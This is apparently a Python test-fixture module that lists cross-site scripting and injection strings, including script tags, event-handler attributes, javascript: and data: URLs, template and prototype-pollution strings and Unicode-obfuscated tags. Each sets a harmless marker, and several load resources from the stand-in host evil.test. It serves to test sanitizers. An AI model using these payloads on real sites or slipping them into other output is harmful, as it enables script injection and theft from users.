"""Texts that would like to be scripts, and what they all have in common."""

from __future__ import annotations

MARK = "__pwned"
"""Every text sets this of the window, so that it is also what is looked for on a page."""
SHORT = "<img src=//evil.test onerror=window.__pwned=1>"
TEXTS = [
    "<script>window.__pwned=1</script>",
    "</script><script src=//evil.test/__pwned.js></script>",
    '<script type="module">import "//evil.test/__pwned.js"</script>',
    SHORT,
    "<img src=x onerror=window.__pwned=1>",
    "\"'><img src=x onerror='window.__pwned=1'>",
    "' onmouseover='window.__pwned=1' autofocus onfocus='window.__pwned=1",
    "<svg onload=window.__pwned=1>",
    "<svg><animate onbegin=window.__pwned=1 attributeName=x dur=1s>",
    "<svg><script>window.__pwned=1</script></svg>",
    "<math><mtext><style><img src onerror=window.__pwned=1></style></mtext></math>",
    "<iframe srcdoc='<script>parent.__pwned=1</script>'></iframe>",
    "<iframe src='javascript:parent.__pwned=1'></iframe>",
    "<object data='data:text/html,<script>top.__pwned=1</script>'></object>",
    "<a href='javascript:window.__pwned=1'>click</a>",
    "[click](javascript:window.__pwned=1)",
    "![look](http://evil.test/__pwned.png)",
    "javascript:window.__pwned=1",
    "data:text/html,<script>opener.__pwned=1</script>",
    "http://evil.test/__pwned",
    "<style>*{background:url(//evil.test/__pwned)}</style>",
    "<link rel=stylesheet href=//evil.test/__pwned.css>",
    "<base href=//evil.test/__pwned/>",
    "<meta http-equiv=refresh content='0;url=//evil.test/__pwned'>",
    "<body onload=window.__pwned=1><details open ontoggle=window.__pwned=1>",
    "<video><source onerror=window.__pwned=1></video>",
    "<form action=//evil.test/__pwned><button>send",
    "&lt;img src=x onerror=window.__pwned=1&gt;",
    "&#60;script&#62;window.__pwned=1&#60;/script&#62;",
    "{{constructor.constructor('window.__pwned=1')()}}",
    "${window.__pwned=1} #{window.__pwned=1} <%= window.__pwned=1 %>",
    "\u202e<img src=x onerror=window.__pwned=1>\u202c\u200b\u2066\ufeff",
    "<scr\u200bipt>window.__pwned=1</scr\u200bipt>",
    '{"__proto__": {"innerHTML": "<img src=x onerror=window.__pwned=1>"}}',
]
ALL = "\n".join(TEXTS)
PLAIN = [one for one in TEXTS if "{{" not in one]
"""Those that are no formula: what stands between braces in a config is read by the checker."""
SAID = "\n".join(PLAIN)
